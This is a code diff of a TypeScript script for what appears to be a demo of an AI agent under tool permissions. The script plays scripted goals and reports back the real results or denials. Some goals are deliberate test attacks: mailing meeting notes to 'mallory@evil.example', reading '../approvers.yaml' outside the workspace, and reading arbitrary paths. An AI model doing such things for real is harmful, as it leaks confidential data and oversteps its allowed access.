@@ -1,79 +1,100 @@
-/** The demo’s play. Each part reacts to the real tool results; goals that it does not know get an honest answer. */
-import type { Conversation, Reply, Scenario } from './scenario.ts';
-import { LABEL, call, say } from './scenario.ts';
+/**
+ * The demo’s play. Every part reacts to the real tool results and quotes them; what it was denied, it explains with the
+ * words of the denial.
+ */
+import type { Goal, Scene } from './play.ts';
+import { scenarioOf } from './play.ts';
+import type { AnsweredCall, Reply, Scenario } from './scenario.ts';
+import { call, say } from './scenario.ts';
 
-interface Part {
-  readonly name: string;
-  readonly matches: RegExp;
-  readonly play: Scenario;
-}
+const NOTES = 'notes/meeting.md';
 
-const PARTS: readonly Part[] = [
-  { name: 'read the meeting notes', matches: /read the meeting notes/i, play: readNotes },
-  {
-    name: 'mail the meeting notes to Alice',
-    matches: /mail the meeting notes to alice/i,
-    play: mailTo('alice@partner.example', 'Meeting notes'),
-  },
-  {
-    name: 'mail the meeting notes to a stranger',
-    matches: /mail .* to .*(stranger|mallory)/i,
-    play: mailTo('mallory@evil.example', 'Meeting notes'),
-  },
-  {
-    name: 'mail the reception',
-    matches: /mail .* reception/i,
-    play: mailTo('reception@example.com', 'A visitor is coming'),
-  },
-  {
-    name: 'mail the meeting notes to Bob',
-    matches: /mail the meeting notes to bob/i,
-    play: mailTo('bob@example.com', 'Meeting notes'),
-  },
-  { name: 'delete the old drafts', matches: /delete the old drafts/i, play: deleteDrafts },
-];
-
-export const demoScenario: Scenario = (conversation) => {
-  const part = PARTS.find(({ matches }) => matches.test(conversation.goal));
-  return part === undefined ? offScript() : part.play(conversation);
+const PEOPLE: Readonly<Record<string, string>> = {
+  alice: 'alice@partner.example',
+  bob: 'bob@example.com',
+  mallory: 'mallory@evil.example',
+  reception: 'reception@example.com',
 };
 
-function offScript(): Reply {
-  const known = PARTS.map(({ name }) => `“${name}”`).join(', ');
-  return say(
-    `No model is thinking here: I only play a script, and it knows these goals: ${known}. With ANTHROPIC_API_KEY set, Claude answers.`,
-  );
-}
+const GOALS: readonly Goal[] = [
+  { name: 'read the meeting notes', match: /read the meeting notes/i, steps: readNotes },
+  { name: 'mail a visitor announcement to the reception', match: /mail .*reception/i, steps: announceVisitor },
+  {
+    name: 'mail the meeting notes to Alice, Bob, the stranger Mallory or any address',
+    match: /mail the meeting notes to .*?(?<to>[\w.+-]+@[\w-]+(?:\.[\w-]+)+|alice|bob|mallory)/i,
+    steps: mailNotes,
+  },
+  { name: 'delete the old drafts', match: /delete the old drafts/i, steps: deleteDrafts },
+  { name: 'read <any path>', match: /read (?<path>\S*[/.]\S*\w)/i, steps: readPath },
+];
 
-function readNotes({ results }: Conversation): Reply {
-  const [listing, notes, outside] = results;
+export const demoScenario: Scenario = scenarioOf({ name: 'demo', goals: GOALS });
+
+function readNotes({ calls: [listing, notes, outside] }: Scene): Reply {
   if (listing === undefined) return call('list_files', { path: 'notes' });
-  if (notes === undefined) return call('read_file', { path: 'notes/meeting.md' });
+  if (notes === undefined) return call('read_file', { path: NOTES });
   if (outside === undefined) return call('read_file', { path: '../approvers.yaml' });
   return say(
-    `The notes begin: “${firstLine(notes)}”. I also tried to read ../approvers.yaml, outside my workspace, and was told: ${outside}`,
+    `${beginning(NOTES, notes)} I also tried to read ../approvers.yaml, outside my workspace. ${told(outside)}`,
   );
 }
 
-function mailTo(recipient: string, subject: string): Scenario {
-  return ({ results }) => {
-    const [notes, sent] = results;
-    if (notes === undefined) return call('read_file', { path: 'notes/meeting.md' });
-    if (sent === undefined)
-      return call('send_email', { to: [recipient], subject, body: `Hello,\n\nhere are the notes.\n\n${notes}\n` });
-    return say(`About the mail to ${recipient} I was told: ${sent}`);
-  };
+function readPath({ match, calls: [listing, file] }: Scene): Reply {
+  const path = match.groups?.['path'] ?? '';
+  const folder = path.includes('..') ? undefined : path.split('/').slice(0, -1).join('/') || '.';
+  if (folder === undefined) {
+    return listing === undefined
+      ? call('read_file', { path })
+      : say(`I tried to read ${path}. ${beginning(path, listing)}`);
+  }
+  if (listing === undefined) return call('list_files', { path: folder });
+  if (file === undefined) return call('read_file', { path });
+  return say(`In ${folder} I see: ${listing.result.split('\n').join(', ')}. ${beginning(path, file)}`);
 }
 
-function deleteDrafts({ results }: Conversation): Reply {
-  const [listing, deleted] = results;
+function mailNotes({ match, calls: [notes, mail] }: Scene): Reply {
+  const name = match.groups?.['to'] ?? '';
+  const to = PEOPLE[name.toLowerCase()] ?? name;
+  if (notes === undefined) return call('read_file', { path: NOTES });
+  if (notes.isError) return say(`I sent nothing, for I could not read ${NOTES}. ${told(notes)}`);
+  if (mail === undefined) {
+    const body = `Hello,\n\nhere are the notes of our meeting.\n\n${notes.result}\n`;
+    return call('send_email', { to: [to], subject: firstLine(notes.result), body });
+  }
+  return say(`About the mail to ${to}: ${told(mail)}`);
+}
+
+function announceVisitor({ calls: [notes, mail] }: Scene): Reply {
+  const to = PEOPLE['reception'] ?? '';
+  if (notes === undefined) return call('read_file', { path: NOTES });
+  if (mail === undefined) {
+    const about = notes.isError ? 'a meeting' : firstLine(notes.result);
+    return call('send_email', {
+      to: [to],
+      subject: 'A visitor is coming',
+      body: `Hello,\n\nwe expect a visitor for: ${about}.\n`,
+    });
+  }
+  return say(`About the mail to ${to}: ${told(mail)}`);
+}
+
+function deleteDrafts({ calls: [listing, deletion] }: Scene): Reply {
   if (listing === undefined) return call('list_files', { path: 'drafts' });
-  const paths = [...listing.matchAll(/^(\S+\.md) \(/gm)].map(([, name]) => `drafts/${name ?? ''}`);
-  if (paths.length === 0) return say(`I saw no drafts to delete. The folder says: ${listing}`);
-  if (deleted === undefined) return call('delete_files', { paths });
-  return say(`About deleting ${paths.join(', ')} I was told: ${deleted}`);
+  const paths = [...listing.result.matchAll(/^(.+) \(\d+ bytes\)$/gm)].map(([, name]) => `drafts/${name ?? ''}`);
+  if (listing.isError || paths.length === 0) return say(`I saw no drafts to delete. ${told(listing)}`);
+  if (deletion === undefined) return call('delete_files', { paths });
+  return say(`About deleting ${paths.join(', ')}: ${told(deletion)}`);
+}
+
+function told({ result, isError }: AnsweredCall): string {
+  return isError ? `It was not done. I was told: “${result}”` : `It was done. I was told: “${result}”`;
+}
+
+function beginning(path: string, file: AnsweredCall): string {
+  return file.isError ? told(file) : `${path} begins: “${firstLine(file.result)}”.`;
 }
 
 function firstLine(text: string): string {
-  return text.split('\n').find((line) => line.trim() !== '') ?? LABEL;
+  const line = text.split('\n').find((candidate) => candidate.trim() !== '') ?? '(an empty file)';
+  return line.replace(/^#+\s*/, '').trim();
 }
